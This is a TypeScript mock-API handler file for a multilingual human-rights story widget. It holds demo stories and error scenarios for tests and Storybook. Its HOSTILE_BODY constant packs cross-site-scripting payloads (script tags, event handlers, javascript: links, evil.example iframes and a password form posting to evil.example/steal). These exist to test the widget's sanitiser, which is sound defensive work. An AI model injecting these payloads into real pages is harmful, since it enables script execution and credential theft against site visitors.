/**
 * Mock Service Worker handlers for the story API (`<compa-story-feed>`), shared by the widget tests and Storybook
 * (like `webinar-handlers.ts`, whose request log and error shape they share through `handlers.ts`).
 *
 * The mocks ARE the contract: queries are validated with the real zod schemas of `src/schemas/story.ts` (strict,
 * slugs, limit 1–50, cursor shape) and every response body is parsed with the response schemas before it is sent.
 * The server's rules are applied: each story in the requested language or, per item, a fallback that says so
 * (`pickLanguage`: the language asked for, else English, else the story's first); newest first, then by id;
 * `region` takes a region's slug or a country code; tag facets on the first page only, counted over the stories
 * that match the other filters, most used first, labelled in the requested language where a story has it; a
 * withdrawn story answers 404. Images are served by the mock on the API's own origin (`/media/stories/…`, SVG).
 *
 *   worker.use(...storyScenarios.empty());                 // a test
 *   parameters: { msw: storyScenarios.feed({ latency: 400 }) }   // a story
 */
import { delay, http, HttpResponse, type HttpHandler } from 'msw';
import {
  API_PREFIX,
  STORIES_DEFAULT_LIMIT,
  StoryDetailSchema,
  StoryListQuerySchema,
  StoryListSchema,
  StoryParamsSchema,
  StoryQuerySchema,
  type ErrorCode,
  type Story,
  type StoryDetail,
  type StoryList,
} from '../../src/schemas/index.ts';
import { errorResponse, fieldsFromIssues, record, type MockLocale } from './handlers.ts';

export const STORIES_URL = `*${API_PREFIX}/stories`;
export const STORY_URL = `*${API_PREFIX}/stories/:id`;
export const STORY_MEDIA_URL = '*/media/stories/:file';

/** The host of the demo's YouTube player (never reached: nothing loads until "Load media", and no test presses it). */
export const YOUTUBE_EMBED = 'https://www.youtube-nocookie.com/embed/kJQP7kiw5Fk';
/** A second player, on a host that never resolves (`.test`): the one the tests and stories load. */
export const TEST_EMBED = 'https://media.compa.test/videos/embed/entrevista-directora';

interface Texts {
  title: string;
  excerpt: string;
  /** The image's alt text ('' for a decorative image). */
  alt?: string;
  /** The body (HTML as the server sends it, sanitised); default: the excerpt and a closing paragraph. */
  body?: (origin: string) => string;
}

/** A demo story: its fields, and its texts by language (the first language is its original). */
export interface DemoStory {
  id: string;
  texts: Partial<Record<MockLocale, Texts>>;
  partner: Story['partner'];
  country: string | null;
  region: Story['region'];
  tags: string[];
  date: string;
  readingMinutes: number | null;
  /** The image's size, or null: no image. */
  image: { width: number; height: number } | null;
  /** The organisation's own page of the story (default: Compa's page of the story). */
  link?: string;
}

/** Tag labels by language. */
export const DEMO_TAGS: Record<string, Record<MockLocale, string>> = {
  land: { en: 'Land', es: 'Tierra', fr: 'Terre' },
  threats: { en: 'Threats', es: 'Amenazas', fr: 'Menaces' },
  media: { en: 'Free press', es: 'Prensa libre', fr: 'Presse libre' },
  water: { en: 'Water', es: 'Agua', fr: 'Eau' },
  peace: { en: 'Peace', es: 'Paz', fr: 'Paix' },
  women: { en: 'Women defenders', es: 'Mujeres defensoras', fr: 'Défenseures' },
  migration: { en: 'Migration', es: 'Migración', fr: 'Migration' },
};

const CLOSING: Record<MockLocale, string> = {
  en: 'Our volunteers will keep accompanying them in the months ahead, and we will tell you how it goes.',
  es: 'Nuestras voluntarias seguirán acompañándolas en los próximos meses, y te contaremos cómo sigue.',
  fr: 'Nos bénévoles continueront de les accompagner dans les mois qui viennent, et nous vous raconterons la suite.',
};

/** The body of the story with media: a heading, two players (one YouTube), a quote, an image of the server's own. */
const radioBody = (origin: string): string =>
  '<p>Cada mañana, a las seis, Voces del Cauca abre los micrófonos para las veredas de la montaña.</p>' +
  '<h2>Una emisora en la montaña</h2>' +
  '<p>El equipo, seis jóvenes nasa, informa en nasa yuwe y en español sobre lo que pasa en los territorios.</p>' +
  `<figure data-compa-embed="${YOUTUBE_EMBED}" data-compa-host="www.youtube-nocookie.com">` +
  '<a href="https://www.youtube.com/watch?v=kJQP7kiw5Fk" rel="noopener noreferrer nofollow" target="_blank">Video: Voces del Cauca al aire</a></figure>' +
  '<blockquote><p>“Si nos callan, callan a toda la comunidad.”</p></blockquote>' +
  `<figure><img src="${origin}/media/stories/cabina.svg" alt="La cabina de la emisora, con dos micrófonos" width="800" height="450">` +
  '<figcaption>La cabina de Voces del Cauca.</figcaption></figure>' +
  `<figure data-compa-embed="${TEST_EMBED}" data-compa-host="media.compa.test">` +
  '<a href="https://media.compa.test/w/entrevista-directora" rel="noopener noreferrer nofollow" target="_blank">Audio: Entrevista con la directora</a></figure>' +
  '<p>La emisora recibió amenazas en marzo; desde entonces la acompañamos.</p>';

/** Nine stories, newest first: three pages of 4, two pages of the widget's default 6. */
export const DEMO_STORIES: readonly DemoStory[] = [
  {
    id: 'rio-verde-leaders-return',
    texts: {
      es: {
        title: 'De vuelta a su tierra: las lideresas de Río Verde regresan a casa',
        excerpt: 'Tres meses después de las amenazas que las obligaron a irse, dos lideresas del consejo comunitario regresaron a Río Verde, acompañadas por nuestras voluntarias.',
        alt: 'Dos mujeres caminan por un sendero junto al río, seguidas por dos voluntarias de acompañamiento',
      },
      en: {
        title: 'Back on their land: Río Verde’s leaders return home',
        excerpt: 'Three months after the threats that forced them to leave, two leaders of the community council returned to Río Verde, accompanied by our volunteers.',
        alt: 'Two women walk along a riverside path, followed by two accompaniment volunteers',
      },
      fr: {
        title: 'De retour sur leurs terres : les dirigeantes de Río Verde rentrent chez elles',
        excerpt: 'Trois mois après les menaces qui les avaient forcées à partir, deux dirigeantes du conseil communautaire sont rentrées à Río Verde, accompagnées par nos bénévoles.',
        alt: 'Deux femmes marchent sur un sentier au bord de la rivière, suivies de deux bénévoles d’accompagnement',
      },
    },
    partner: { slug: 'consejo-rio-verde', name: 'Consejo Comunitario de Río Verde' },
    country: 'CO',
    region: { slug: 'choco', name: 'Chocó' },
    tags: ['land', 'threats'],
    date: '2026-11-02T14:00:00.000Z',
    readingMinutes: 4,
    image: { width: 1200, height: 800 },
  },
  {
    // In Spanish only: every other reader gets it in Spanish, labelled.
    id: 'voces-del-cauca-radio',
    texts: {
      es: {
        title: 'Voces del Cauca: la radio comunitaria que no se deja callar',
        excerpt: 'Desde una pequeña emisora en las montañas del Cauca, seis jóvenes informan sobre los riesgos que enfrentan sus comunidades.',
        alt: 'Una joven habla ante un micrófono en una cabina de radio',
        body: radioBody,
      },
    },
    partner: { slug: 'voces-del-cauca', name: 'Emisora Voces del Cauca' },
    country: 'CO',
    region: { slug: 'cauca', name: 'Cauca' },
    tags: ['media', 'threats'],
    date: '2026-10-20T09:30:00.000Z',
    readingMinutes: 6,
    image: { width: 1600, height: 900 },
  },
  {
    id: 'huehuetenango-water',
    texts: {
      en: {
        title: 'The river is ours: water defenders in Huehuetenango',
        excerpt: 'Communities of the western highlands have kept a peaceful camp for a year against a dam built without their consent.',
        alt: '',
      },
      es: {
        title: 'El río es nuestro: defensoras del agua en Huehuetenango',
        excerpt: 'Las comunidades del altiplano occidental mantienen desde hace un año un campamento pacífico contra una represa construida sin su consentimiento.',
        alt: '',
      },
    },
    partner: { slug: 'consejo-maya-mam', name: 'Consejo Maya Mam' },
    country: 'GT',
    region: { slug: 'huehuetenango', name: 'Huehuetenango' },
    tags: ['water', 'land'],
    date: '2026-10-05T16:00:00.000Z',
    readingMinutes: null,
    image: { width: 1200, height: 900 },
    link: 'https://brigadas.example.org/stories/huehuetenango-water',
  },
  {
    id: 'bajo-aguan-eighteen-months',
    texts: {
      en: {
        title:
          'Eighteen months of accompaniment in the Bajo Aguán valley: what the families of the peasant cooperatives told us about land, fear, hope and the long wait for justice',
        excerpt: 'A report from the cooperatives we accompany.',
      },
      es: {
        title:
          'Dieciocho meses de acompañamiento en el valle del Bajo Aguán: lo que nos contaron las familias de las cooperativas campesinas sobre la tierra, el miedo, la esperanza y la larga espera de justicia',
        excerpt: 'Un informe desde las cooperativas que acompañamos.',
      },
      fr: {
        title:
          'Dix-huit mois d’accompagnement dans la vallée du Bajo Aguán : ce que les familles des coopératives paysannes nous ont dit de la terre, de la peur, de l’espoir et de la longue attente de justice',
        excerpt: 'Un rapport depuis les coopératives que nous accompagnons.',
      },
    },
    partner: null,
    country: 'HN',
    region: null,
    tags: ['land', 'threats'],
    date: '2026-09-18T12:00:00.000Z',
    readingMinutes: 9,
    image: null,
  },
  {
    id: 'guerrero-journalists',
    texts: {
      fr: {
        title: 'Informer malgré tout : les journalistes de Guerrero',
        excerpt: 'Dans l’un des États les plus dangereux pour la presse, un réseau de journalistes locaux se protège en travaillant ensemble.',
        alt: 'Trois journalistes relisent un article autour d’une table',
      },
      es: {
        title: 'Informar pese a todo: las periodistas de Guerrero',
        excerpt: 'En uno de los estados más peligrosos para la prensa, una red de periodistas locales se protege trabajando en conjunto.',
        alt: 'Tres periodistas revisan un artículo alrededor de una mesa',
      },
      en: {
        title: 'Reporting against the odds: Guerrero’s journalists',
        excerpt: 'In one of the most dangerous states for the press, a network of local journalists keeps safe by working together.',
        alt: 'Three journalists go over an article around a table',
      },
    },
    partner: { slug: 'red-periodistas-guerrero', name: 'Red de Periodistas de Guerrero' },
    country: 'MX',
    region: { slug: 'guerrero', name: 'Guerrero' },
    tags: ['media', 'threats'],
    date: '2026-09-01T18:00:00.000Z',
    readingMinutes: 5,
    image: { width: 1200, height: 800 },
  },
  {
    // In English and French only: Spanish readers get it in English.
    id: 'antioquia-peace-school',
    texts: {
      en: {
        title: 'A school for peace in the mountains of Antioquia',
        excerpt: 'Former neighbours on opposite sides of the conflict now teach conflict resolution together.',
        alt: 'Children and teachers in front of a rural school',
      },
      fr: {
        title: 'Une école de la paix dans les montagnes d’Antioquia',
        excerpt: 'D’anciens voisins des deux côtés du conflit enseignent désormais ensemble la résolution des conflits.',
        alt: 'Des enfants et des enseignant·es devant une école rurale',
      },
    },
    partner: { slug: 'escuela-de-paz', name: 'Escuela de Paz de Antioquia' },
    country: 'CO',
    region: { slug: 'antioquia', name: 'Antioquia' },
    tags: ['peace'],
    date: '2026-08-14T10:00:00.000Z',
    readingMinutes: 3,
    image: { width: 1200, height: 800 },
  },
  {
    id: 'bajo-atrato-return',
    texts: {
      es: {
        title: 'El regreso al Bajo Atrato, veinte años después',
        excerpt: 'Las familias desplazadas en 1997 reconstruyen sus casas en la cuenca del río Cacarica.',
        alt: 'Una casa de madera en construcción junto a un río',
      },
      en: {
        title: 'Returning to the Bajo Atrato, twenty years on',
        excerpt: 'Families displaced in 1997 are rebuilding their homes along the Cacarica river.',
        alt: 'A wooden house being built beside a river',
      },
    },
    partner: { slug: 'cavida', name: 'CAVIDA' },
    country: 'CO',
    region: { slug: 'choco', name: 'Chocó' },
    tags: ['land'],
    date: '2026-07-30T15:00:00.000Z',
    readingMinutes: 7,
    image: { width: 1200, height: 800 },
  },
  {
    id: 'alta-verapaz-women',
    texts: {
      en: {
        title: 'Alta Verapaz: the women who defend the defenders',
        excerpt: 'A network of Q’eqchi’ women accompanies those who are threatened for defending their land.',
        alt: 'A group of women in a circle, talking',
      },
      es: {
        title: 'Alta Verapaz: las mujeres que defienden a quienes defienden',
        excerpt: 'Una red de mujeres q’eqchi’ acompaña a quienes son amenazadas por defender su tierra.',
        alt: 'Un grupo de mujeres conversa en círculo',
      },
      fr: {
        title: 'Alta Verapaz : les femmes qui défendent les défenseures',
        excerpt: 'Un réseau de femmes q’eqchi’ accompagne celles qui sont menacées pour avoir défendu leur terre.',
        alt: 'Un groupe de femmes discute en cercle',
      },
    },
    partner: { slug: 'red-mujeres-defensoras', name: 'Red de Mujeres Defensoras' },
    country: 'GT',
    region: { slug: 'alta-verapaz', name: 'Alta Verapaz' },
    tags: ['women', 'land'],
    date: '2026-07-02T13:00:00.000Z',
    readingMinutes: 4,
    image: { width: 1200, height: 800 },
  },
  {
    id: 'chiapas-caravan',
    texts: {
      es: {
        title: 'Caminar acompañadas: la caravana de Chiapas',
        excerpt: 'Acompañamos a una caravana de familias migrantes durante diez días por la frontera sur.',
        alt: 'Personas caminan por una carretera bajo el sol',
      },
      fr: {
        title: 'Marcher accompagnées : la caravane du Chiapas',
        excerpt: 'Nous avons accompagné une caravane de familles migrantes pendant dix jours le long de la frontière sud.',
        alt: 'Des personnes marchent sur une route en plein soleil',
      },
    },
    partner: { slug: 'casa-del-migrante', name: 'Casa del Migrante' },
    country: 'MX',
    region: { slug: 'chiapas', name: 'Chiapas' },
    tags: ['migration'],
    date: '2026-06-11T08:00:00.000Z',
    readingMinutes: 5,
    image: { width: 1200, height: 800 },
  },
];

/** The language a story is shown in for `tag`, as the server picks it: asked for, else English, else its first. */
export function storyLanguage(s: DemoStory, tag: string | undefined): { lang: MockLocale; fallback: boolean } {
  const have = Object.keys(s.texts) as MockLocale[];
  const wanted = (tag ?? 'en').toLowerCase().split('-')[0];
  const match = have.find((l) => l === wanted);
  return { lang: match ?? (have.includes('en') ? 'en' : have[0]!), fallback: !match };
}

/** A demo story as the API answers it for `lang`, its image and page on `origin`; with its body for the detail. */
export function demoStory(s: DemoStory, lang: string | undefined, origin: string): Story;
export function demoStory(s: DemoStory, lang: string | undefined, origin: string, detail: true): StoryDetail;
export function demoStory(s: DemoStory, lang: string | undefined, origin: string, detail = false): Story | StoryDetail {
  const used = storyLanguage(s, lang);
  const t = s.texts[used.lang]!;
  const story: Story = {
    id: s.id,
    lang: used.lang,
    fallback: used.fallback,
    languages: Object.keys(s.texts),
    title: t.title,
    excerpt: t.excerpt,
    link: s.link ?? `${origin}/stories/${s.id}?lang=${used.lang}`,
    partner: s.partner,
    country: s.country,
    region: s.region,
    tags: s.tags.map((slug) => ({ slug, label: DEMO_TAGS[slug]![used.lang] })),
    date: s.date,
    readingMinutes: s.readingMinutes,
    image: s.image && { url: `${origin}/media/stories/${s.id}.svg`, ...s.image, alt: t.alt ?? '' },
  };
  if (!detail) return story;
  const body = t.body?.(origin) ?? `<p>${t.excerpt}</p><p>${CLOSING[used.lang]}</p>`;
  return StoryDetailSchema.parse({ ...story, body });
}

/** Whether a story matches a `region` filter: a region's slug, or a country code. */
const inRegion = (s: DemoStory, region: string): boolean => s.region?.slug === region || s.country?.toLowerCase() === region;

/** What to answer instead of the stories. */
export type Outcome =
  | { kind: 'error'; status: number; code: ErrorCode; message: string; retryAfter?: number }
  | { kind: 'network-error' };

type Latency = number | 'infinite' | undefined;

export interface StoryMockOptions {
  /** Milliseconds before answering a list page (0 by default: tests stay fast), or `'infinite'`: never answers. */
  latency?: Latency;
  /** Per request instead (out-of-order answers): the latency of the list page asked for with `query`. */
  latencyOf?: (query: URLSearchParams) => Latency;
  /** Milliseconds before answering a story's detail, or `'infinite'`. */
  detailLatency?: Latency;
  /** The stories the organisation has (default `DEMO_STORIES`). */
  stories?: readonly DemoStory[];
  /** Stories withdrawn since the list was fetched: still listed, their detail answers 404. */
  withdrawn?: string[];
  /** Instead of the first page, of the next pages (`cursor`), of a story's detail. */
  list?: Outcome;
  page?: Outcome;
  detail?: Outcome;
  /** Bodies replacing the demo's, by story id (HTML as the server would send it). */
  bodies?: Record<string, string>;
}

const wait = async (request: Request, latency: Latency, body: unknown = undefined): Promise<void> => {
  if (latency === 'infinite') record(request, body, 'pending');
  if (latency) await delay(latency);
};

const answer = (request: Request, outcome: Outcome): Response => {
  if (outcome.kind === 'network-error') {
    record(request, undefined, 'network-error');
    return HttpResponse.error();
  }
  record(request, undefined, outcome.status);
  return errorResponse(outcome.status, outcome.code, outcome.message, { retryAfter: outcome.retryAfter });
};

/** The first page's tag facets: over the stories matching the other filters, most used first, at most 20. */
function facets(matching: DemoStory[], lang: string | undefined): StoryList['tags'] {
  const counts = new Map<string, number>();
  for (const s of matching) for (const t of s.tags) counts.set(t, (counts.get(t) ?? 0) + 1);
  const wanted = storyLanguage({ texts: { en: {}, es: {}, fr: {} } } as DemoStory, lang).lang;
  return [...counts]
    .map(([slug, count]) => ({ slug, count, label: DEMO_TAGS[slug]![wanted] }))
    .sort((a, b) => b.count - a.count || a.label.localeCompare(b.label))
    .slice(0, 20);
}

export function storyHandlers(o: StoryMockOptions = {}): HttpHandler[] {
  const all = () => [...(o.stories ?? DEMO_STORIES)].sort((a, b) => b.date.localeCompare(a.date) || a.id.localeCompare(b.id));
  const invalid = (request: Request, issues: Parameters<typeof fieldsFromIssues>[0], what: 'query' | 'params') => {
    record(request, undefined, 400);
    return errorResponse(400, what === 'query' ? 'invalid_query' : 'invalid_params', `The ${what === 'query' ? 'query string' : 'path'} has invalid fields`, {
      fields: fieldsFromIssues(issues, 'query'),
    });
  };
  return [
    http.get(STORIES_URL, async ({ request }) => {
      const url = new URL(request.url);
      const query = StoryListQuerySchema.safeParse(Object.fromEntries(url.searchParams));
      if (!query.success) return invalid(request, query.error.issues, 'query');
      const q = query.data;
      await wait(request, o.latencyOf ? o.latencyOf(url.searchParams) : o.latency);
      const outcome = q.cursor ? o.page : o.list;
      if (outcome) return answer(request, outcome);
      const others = all().filter((s) => (!q.region || inRegion(s, q.region)) && (!q.partner || s.partner?.slug === q.partner));
      const matching = others.filter((s) => !q.tag || s.tags.includes(q.tag));
      const start = q.cursor ? Number(/^o(\d+)$/.exec(q.cursor)?.[1] ?? NaN) : 0;
      if (Number.isNaN(start)) return invalid(request, [{ code: 'custom', path: ['cursor'], message: 'Must be a nextCursor from a previous page', input: q.cursor }], 'query');
      const limit = q.limit ?? STORIES_DEFAULT_LIMIT;
      const page = matching.slice(start, start + limit);
      const body = StoryListSchema.parse({
        stories: page.map((s) => demoStory(s, q.lang, url.origin)),
        nextCursor: start + limit < matching.length ? `o${start + limit}` : null,
        ...(q.cursor ? {} : { tags: facets(others, q.lang) }),
      });
      record(request, undefined, 200);
      return HttpResponse.json(body);
    }),

    http.get(STORY_URL, async ({ request, params }) => {
      const url = new URL(request.url);
      const query = StoryQuerySchema.safeParse(Object.fromEntries(url.searchParams));
      if (!query.success) return invalid(request, query.error.issues, 'query');
      const p = StoryParamsSchema.safeParse({ id: params.id }); // (`*` in the path adds a param "0")
      if (!p.success) return invalid(request, p.error.issues, 'params');
      await wait(request, o.detailLatency);
      if (o.detail) return answer(request, o.detail);
      const s = all().find((x) => x.id === p.data.id);
      if (!s || o.withdrawn?.includes(s.id)) {
        record(request, undefined, 404);
        return errorResponse(404, 'not_found', 'No such story');
      }
      const d = demoStory(s, query.data.lang, url.origin, true);
      const body = o.bodies?.[s.id];
      record(request, undefined, 200);
      return HttpResponse.json(StoryDetailSchema.parse(body === undefined ? d : { ...d, body }));
    }),

    http.get(STORY_MEDIA_URL, ({ request, params }) => {
      record(request, undefined, 200);
      // A calm colour per image, the same each time.
      const hue = [...String(params.file)].reduce((h, c) => (h * 31 + c.charCodeAt(0)) % 360, 7);
      return new HttpResponse(
        `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 200" preserveAspectRatio="none"><rect width="300" height="200" fill="hsl(${hue} 35% 62%)"/><circle cx="220" cy="60" r="28" fill="hsl(${hue} 45% 85%)"/><path d="M0 200 L90 110 L150 160 L210 100 L300 180 V200Z" fill="hsl(${hue} 30% 40%)"/></svg>`,
        { headers: { 'Content-Type': 'image/svg+xml' } },
      );
    }),
  ];
}

const failure = (status: number, code: ErrorCode, message: string, retryAfter?: number): Outcome => ({ kind: 'error', status, code, message, retryAfter });
const SERVER_ERROR = failure(500, 'internal', 'Something went wrong on our side; please try again');

export interface ScenarioOptions {
  /** Milliseconds before each answer. Defaults to 0 (tests); stories may pass ~400 for realism. */
  latency?: number;
}

/** Hostile HTML in a story's body, as a broken or compromised server might send it: none of it may run or load. */
export const HOSTILE_BODY =
  '<p>Before.</p>' +
  '<script>window.__pwned = 1</script>' +
  '<img src="x" onerror="window.__pwned = 2">' +
  '<img src="https://tracker.example/pixel.gif" alt="pixel">' +
  '<iframe src="https://evil.example/frame"></iframe>' +
  '<p onclick="window.__pwned = 3" style="position:fixed;inset:0">Styled <a href="javascript:window.__pwned=4">a script link</a>, ' +
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a data link</a> and <a href="https://example.org/ok">a real link</a>.</p>' +
  '<svg onload="window.__pwned = 5"><circle r="5"/></svg>' +
  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>' +
  '<style>:host{display:none}</style>' +
  '<figure data-compa-embed="javascript:window.__pwned=6" data-compa-host="evil.example"><a href="https://evil.example/video">Video: not https</a></figure>' +
  '<figure data-compa-embed="http://insecure.example/embed/1" data-compa-host="insecure.example"><a href="http://insecure.example/watch/1">Video: plain http</a></figure>' +
  '<object data="https://evil.example/flash.swf"></object><video src="https://evil.example/v.mp4" autoplay></video>' +
  '<h1 id="x" class="y">A top heading</h1><h3>A third-level heading</h3>' +
  '<p>After.</p>';

/** Named scenarios, each a fresh handler list (stories and tests). */
export const storyScenarios = {
  /** The demo's nine stories (→ list). */
  feed: (o: ScenarioOptions & StoryMockOptions = {}): HttpHandler[] => storyHandlers(o),
  /** No story at all (→ empty). */
  empty: (o: ScenarioOptions = {}): HttpHandler[] => storyHandlers({ ...o, stories: [] }),
  /** The first page never answers (→ loading). */
  loadSlow: (): HttpHandler[] => storyHandlers({ latency: 'infinite' }),
  /** The first page fails: a 500, or a network error (→ error). */
  loadFailure: (o: ScenarioOptions & { kind?: 'server' | 'network' } = {}): HttpHandler[] =>
    storyHandlers({ ...o, list: o.kind === 'network' ? { kind: 'network-error' } : SERVER_ERROR }),
  /** 429 `rate_limited` with `Retry-After` (→ error, saying when to retry). */
  rateLimited: (o: ScenarioOptions & { retryAfter?: number } = {}): HttpHandler[] =>
    storyHandlers({ ...o, list: failure(429, 'rate_limited', 'Too many requests', o.retryAfter ?? 120) }),
  /** The first page loads; "Load more stories" fails (→ list, with the error beside the button). */
  pageFailure: (o: ScenarioOptions = {}): HttpHandler[] => storyHandlers({ ...o, page: SERVER_ERROR }),
  /** A story opened in place was withdrawn meanwhile: its detail answers 404. */
  withdrawn: (o: ScenarioOptions & { ids?: string[] } = {}): HttpHandler[] =>
    storyHandlers({ ...o, withdrawn: o.ids ?? [DEMO_STORIES[0]!.id] }),
  /** A story's detail never answers (→ reader, loading). */
  detailSlow: (): HttpHandler[] => storyHandlers({ detailLatency: 'infinite' }),
  /** A story's detail fails with a 500 (→ reader, with "Try again"). */
  detailFailure: (o: ScenarioOptions = {}): HttpHandler[] => storyHandlers({ ...o, detail: SERVER_ERROR }),
  /** The first story's body is hostile HTML (`HOSTILE_BODY`). */
  hostile: (o: ScenarioOptions = {}): HttpHandler[] => storyHandlers({ ...o, bodies: { [DEMO_STORIES[0]!.id]: HOSTILE_BODY } }),
} satisfies Record<string, (options?: never) => HttpHandler[]>;

export type StoryScenarioName = keyof typeof storyScenarios;
